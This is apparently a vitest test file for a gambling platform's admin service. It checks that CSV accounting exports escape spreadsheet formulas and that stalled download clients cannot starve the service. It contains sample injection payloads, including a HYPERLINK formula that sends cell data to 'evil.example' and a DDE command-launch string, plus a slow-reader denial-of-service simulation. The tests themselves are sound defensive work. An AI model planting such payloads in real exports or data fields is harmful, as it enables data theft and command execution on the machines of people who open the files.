import type { AddressInfo } from 'node:net';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAdminApp } from '../../src/http/admin-app.js';
import { createLogger } from '../../src/infra/logger.js';
import { bearer, call } from '../support/auth-env.js';
import { GOOD_CAPTCHA } from '../support/captcha-server.js';
import { parseCsv } from '../support/csv.js';
import { betBody, depositBody, uid } from '../support/internal-bodies.js';
import { createListsEnv, seedBulkTransactions, type ListsEnv } from '../support/lists-seed.js';
import { eventually } from '../support/eventually.js';

const TOKEN = 'export-safety-internal-token-0123456789';
const FORMULAS = {
  address: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  notes: "=cmd|' /C calc'!A0",
  externalId: '+SUM(1;2)',
  game: '@SUM(A1:A9)',
  reference: '-2+3',
};

let w: ListsEnv;
let root: string;
let player: { id: number; email: string; password: string };

beforeAll(async () => {
  w = await createListsEnv('export_safety');
  root = await w.tokenFor({ roles: ['User', 'SuperAdmin'] });
  player = await w.env.makeUser();
  w.at('2027-02-01T08:00:00.000Z');
  await w.deposit(player.id, '500', { currencyId: 'BTC' });
  const deposit = await w.env.ledger.requestDeposit({
    ...depositBody(player.id),
    currencyId: 'BTC',
    externalId: FORMULAS.externalId,
    providerId: 'TEST',
  });
  expect(deposit._tag).toBe('Right');
  const withdrawal = await w.env.ledger.requestWithdrawal({
    userId: player.id,
    currencyId: 'BTC',
    networkId: 'BTC',
    providerId: 'TEST',
    amount: '1',
    recipientAddress: FORMULAS.address,
  });
  expect(withdrawal._tag).toBe('Right');
  await w.tip(player.id, '1', FORMULAS.notes);
  await w.bet(player.id, '1', { slug: 'formula', provider: FORMULAS.game });
  await w.caughtUp();
  // The accounting log has no player-typed column in these flows: a row written as a hostile integration might.
  await w.env.pool.query(
    `INSERT INTO transactions (id, user_id, currency_id, amount, before_balance, after_balance, type, event_id, position,
       position_commit, position_prepare, reference_id, created_at, updated_at, effective_at)
     VALUES ('formula-row', $1, 'DBC', 1, 0, 1, 'DEPOSIT', gen_random_uuid(), '0/1', 0, 1, $2, '2027-02-01', '2027-02-01', '2027-02-01')`,
    [player.id, FORMULAS.reference],
  );
});
afterAll(async () => {
  await w?.close();
});

describe('GET /accounting/export: a CSV that is safe to open', () => {
  it.each([
    ['withdrawals', 'recipientAddress', FORMULAS.address],
    ['tips', 'notes', FORMULAS.notes],
    ['deposits', 'externalId', FORMULAS.externalId],
    ['bets', 'gameProvider', FORMULAS.game],
    ['transactions', 'referenceId', FORMULAS.reference],
  ])('when a %s cell would start a formula, then it is written with a leading quote mark', async (kind, column, formula) => {
    const reply = await call(w.env.adminUrl, 'GET', `/accounting/export?kind=${kind}&from=2026-01-01T00:00:00Z`, {
      headers: bearer(root),
    });
    expect(reply.status).toBe(200);
    const [header, ...rows] = parseCsv(reply.body as string);
    const at = header!.indexOf(column);
    expect(at).toBeGreaterThanOrEqual(0);
    const cells = rows.map((r) => r[at]);
    expect(cells).toContain(`'${formula}`);
    expect(cells).not.toContain(formula);
    // Amounts stay numbers, even negative ones.
    expect(rows.every((r) => header!.every((h, i) => !/amount$/i.test(h ?? '') || r[i] == null || /^-?\d/.test(r[i] ?? '')))).toBe(true);
  });
});

describe('GET /accounting/export: readers that stall cannot starve the service', () => {
  let admin: import('node:http').Server;
  let adminUrl = '';
  const sockets: net.Socket[] = [];

  beforeAll(async () => {
    // About 40 MB of rows: far more than the socket buffers hold, so each stalled download holds its export back.
    await seedBulkTransactions(w.env.pool, player.id);
    const app = createAdminApp({
      logger: createLogger({ level: 'silent' }),
      pool: w.env.pool,
      store: w.env.store,
      ledger: w.env.ledger,
      auth: w.env.kit,
      accessRegistry: [],
      internalApiToken: TOKEN,
      exportLimits: { total: 4, perAdmin: 2, maxDurationMs: 60_000, stallTimeoutMs: 3_000, minBytesPerSecond: 1 },
    });
    admin = await new Promise((resolve) => {
      const s = app.listen(0, '127.0.0.1', () => resolve(s));
    });
    adminUrl = `http://127.0.0.1:${(admin.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    for (const s of sockets) s.destroy();
    await new Promise((resolve) => {
      admin.closeAllConnections();
      admin.close(resolve);
    });
  });

  /** A download whose client sends the request and then never reads: what it received stays in the kernel's buffers. */
  const stalledReader = (token: string): Promise<{ socket: net.Socket; status: Promise<number> }> =>
    new Promise((resolve, reject) => {
      const { port } = admin.address() as AddressInfo;
      const socket = net.connect(port, '127.0.0.1', () => {
        socket.write(
          `GET /accounting/export?kind=transactions&from=2031-01-01T00:00:00Z HTTP/1.1\r\nHost: x\r\n` +
            `Authorization: Bearer ${token}\r\n\r\n`,
        );
        // Read the status line only, then stop reading for good.
        const status = new Promise<number>((done) => {
          socket.once('data', (chunk: Buffer) => {
            socket.pause();
            done(Number(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 0));
          });
        });
        resolve({ socket, status });
      });
      socket.on('error', () => undefined);
      socket.once('error', reject);
      sockets.push(socket);
    });

  const timed = async (request: () => Promise<{ status: number }>): Promise<{ status: number; ms: number }> => {
    const started = performance.now();
    const { status } = await request();
    return { status, ms: performance.now() - started };
  };

  it('when 25 exports are asked by 5 admins whose clients never read, then 4 stream, the rest get 429, and the service answers within 1 s', async () => {
    const admins = await Promise.all(Array.from({ length: 5 }, () => w.tokenFor({ roles: ['User', 'SuperAdmin'] })));
    const readers = await Promise.all(Array.from({ length: 25 }, (_, i) => stalledReader(admins[i % 5]!)));
    const statuses = await Promise.all(readers.map((r) => r.status));
    expect(statuses.filter((s) => s === 200)).toHaveLength(4);
    expect(statuses.filter((s) => s === 429)).toHaveLength(21);

    const funded = await w.env.makeUser();
    const credited = await call(adminUrl, 'POST', '/internal/deposits', {
      headers: { 'x-service-token': TOKEN },
      body: depositBody(funded.id, { amount: '5' }),
    });
    expect(credited.status).toBe(201);
    expect(
      (
        await call(adminUrl, 'POST', `/internal/deposits/${credited.body.id}/complete`, {
          headers: { 'x-service-token': TOKEN },
          body: { txHash: uid('tx') },
        })
      ).status,
    ).toBe(200);
    for (let round = 0; round < 3; round += 1) {
      const signIn = await timed(() =>
        call(w.env.publicUrl, 'POST', '/auth/sign-in', {
          headers: { 'x-captcha-token': GOOD_CAPTCHA },
          body: { email: player.email, password: player.password },
        }),
      );
      const health = await timed(() => call(adminUrl, 'GET', '/health'));
      const bet = await timed(() =>
        call(adminUrl, 'POST', '/internal/bets', { headers: { 'x-service-token': TOKEN }, body: betBody(funded.id) }),
      );
      expect([signIn.status, health.status, bet.status]).toEqual([200, 200, 201]);
      // A correctness bound (the service is not starved), far above these requests' usual few milliseconds.
      expect(Math.max(signIn.ms, health.ms, bet.ms)).toBeLessThan(1000);
    }

    // The stalled downloads are cut off (stall limit 3 s here) and their slots come back: all four for one admin's two.
    const again = await eventually(async () => {
      const replies = await Promise.all(
        [0, 0, 1, 1].map((i) =>
          call(adminUrl, 'GET', '/accounting/export?kind=tips&from=2026-01-01T00:00:00Z', { headers: bearer(admins[i]!) }),
        ),
      );
      if (replies.some((r) => r.status !== 200)) throw new Error(replies.map((r) => r.status).join(','));
      return replies;
    }, 20_000);
    expect(again.map((r) => r.status)).toEqual([200, 200, 200, 200]);
  }, 60_000);
});
